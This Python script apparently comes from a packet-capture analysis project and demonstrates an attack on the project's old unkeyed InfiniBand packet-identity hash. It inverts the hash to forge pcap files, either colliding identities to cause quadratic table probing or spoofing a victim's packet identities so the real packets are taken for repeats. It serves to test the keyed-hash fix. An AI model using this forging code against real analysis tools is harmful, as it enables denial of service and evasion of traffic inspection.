#!/usr/bin/env python3
"""identity_attack.py - captures crafted against a packet identity of fixed constants.

Until issue 35, the identity that tells one packet seen on two captures
(core/parse/identity.c) hashed with fixed, public constants, and every step
of it can be inverted: whoever writes a capture could choose the identity of
each of its packets.  This script is that attacker.  It holds its own copy
of the old hash (for native InfiniBand without a GRH, link type 247: the
masked LRH and BTH, then the bytes after the BTH) and sets one 8-byte word
of each packet so that the hash comes out as it wants:

  collide N OUT     N RC SEND packets, 1 us apart, whose identities share
                    their low 32 bits: one cluster of the sightings table,
                    probed N^2/2 times
  ordinary N OUT    the same packets, the word left as it is (no collision)
  mimic VICTIM OUT  for each packet of VICTIM (link type 247, LRH first), a
                    copy 1 us earlier whose MAD class is PerfMgt (0x04)
                    instead of its own, its identity made the victim's: the
                    victim's packets would be taken for repeats of these

Outputs are microsecond pcap, link type 247.  With a keyed identity
(per-run key, 128 bits compared) none of these collide any more: the
crafted packets cost what ordinary ones cost, and a mimic is a capture of
other packets.
"""
import struct
import sys

M64 = (1 << 64) - 1
K1, K2, C1 = 0x9E3779B97F4A7C15, 0xC2B2AE3D27D4EB4F, 0xFF51AFD7ED558CCD
ENCAP_NATIVE = 1
LRH, BTH = 8, 12
LINKTYPE_INFINIBAND = 247


def inv(k):
    return pow(k, -1, 1 << 64)


def xs29(h):
    return h ^ (h >> 29)


def unxs29(y):
    return y ^ (y >> 29) ^ (y >> 58)


def mix(h):
    h ^= h >> 33
    h = h * C1 & M64
    h ^= h >> 33
    h = h * K2 & M64
    return h ^ (h >> 33)


def unmix(h):
    h ^= h >> 33  # a shift of 33 undoes itself
    h = h * inv(K2) & M64
    h ^= h >> 33
    h = h * inv(C1) & M64
    return h ^ (h >> 33)


def absorb(h, data):
    full = len(data) // 8 * 8
    for i in range(0, full, 8):
        h = xs29((h ^ int.from_bytes(data[i:i + 8], "little")) * K1 & M64)
    if len(data) > full:
        tail = len(data) - full
        h = (h ^ int.from_bytes(data[full:], "little") ^ tail << 56) * K2 & M64
    return h


def layout(frame):
    """(masked head, rest) of a native packet without a GRH, as the old hash read it."""
    pktlen = (struct.unpack(">H", frame[4:6])[0] & 0x7FF) * 4
    head = bytearray(frame[:LRH + BTH])
    head[0] |= 0xF0  # VL
    head[LRH + 4] = 0xFF  # Resv8a
    return bytes(head), frame[LRH + BTH:min(pktlen, len(frame))]


def old_identity(frame):
    head, rest = layout(frame)
    return mix(absorb(absorb(K1 ^ ENCAP_NATIVE, head), rest) ^ len(rest))


def forge(frame, target):
    """frame with the last full 8-byte word after the BTH set so that its old
    identity is target."""
    head, rest = layout(frame)
    at = (len(rest) // 8 - 1) * 8 if len(rest) % 8 else len(rest) - 8
    h_prev = absorb(absorb(K1 ^ ENCAP_NATIVE, head), rest[:at])
    h = unmix(target) ^ len(rest)
    after = rest[at + 8:]  # fewer than 8 bytes: the tail step, undone
    if after:
        h = (h * inv(K2) & M64) ^ int.from_bytes(after, "little") ^ len(after) << 56
    word = (unxs29(h) * inv(K1) & M64) ^ h_prev
    i = LRH + BTH + at
    out = frame[:i] + word.to_bytes(8, "little") + frame[i + 8:]
    assert old_identity(out) == target
    return out


def send(psn):
    """An RC SEND Only from LID 0x51 to 0x52: LRH, BTH, 12 bytes, ICRC, VCRC."""
    lrh = struct.pack(">BBHHH", 0x02, 0x02, 0x0052, 9, 0x0051)  # LNH 2: BTH next; 9 words
    bth = struct.pack(">BBHBBHBBH", 0x04, 0x00, 0xFFFF, 0, 0x00, 0x0033, 0,
                      psn >> 16 & 0xFF, psn & 0xFFFF)
    return lrh + bth + struct.pack(">III", psn, 0x5EED, 0) + b"\0\0\0\0" + b"\0\0"


def pcap(records):
    out = [struct.pack("<IHHiIII", 0xA1B2C3D4, 2, 4, 0, 0, 65535, LINKTYPE_INFINIBAND)]
    for t_us, data in records:
        out.append(struct.pack("<IIII", t_us // 1000000, t_us % 1000000, len(data), len(data)))
        out.append(data)
    return b"".join(out)


def read_pcap(path):
    with open(path, "rb") as f:
        data = f.read()
    magic, linktype = struct.unpack("<I", data[:4])[0], struct.unpack("<I", data[20:24])[0]
    if magic not in (0xA1B2C3D4, 0xA1B23C4D) or linktype != LINKTYPE_INFINIBAND:
        sys.exit(f"identity_attack: {path}: not a little-endian pcap of link type 247")
    div = 1 if magic == 0xA1B2C3D4 else 1000
    at, records = 24, []
    while at + 16 <= len(data):
        sec, frac, caplen, _ = struct.unpack("<IIII", data[at:at + 16])
        records.append((sec * 1000000 + frac // div, data[at + 16:at + 16 + caplen]))
        at += 16 + caplen
    return records


START_US = 1767225600 * 1000000  # 2026-01-01T00:00:00Z, the generator's epoch


def main(argv):
    if len(argv) == 4 and argv[1] in ("collide", "ordinary"):
        n = int(argv[2])
        frames = [send(i) for i in range(n)]
        if argv[1] == "collide":  # distinct identities, the same low 32 bits
            frames = [forge(f, (i + 1) << 32 | 0x5EED0001) for i, f in enumerate(frames)]
        records = [(START_US + i, f) for i, f in enumerate(frames)]
    elif len(argv) == 4 and argv[1] == "mimic":
        records = []
        for t, frame in read_pcap(argv[2]):
            if len(frame) < LRH + BTH + 8 + 2 or frame[1] & 3 != 2:
                continue  # not LRH + BTH
            fake = bytearray(frame)
            fake[LRH + BTH + 8 + 1] = 0x04  # the MAD's class: PerfMgt, not CM
            records.append((t - 1, forge(bytes(fake), old_identity(frame))))
    else:
        sys.exit(__doc__)
    with open(argv[3], "wb") as f:
        f.write(pcap(records))
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv))
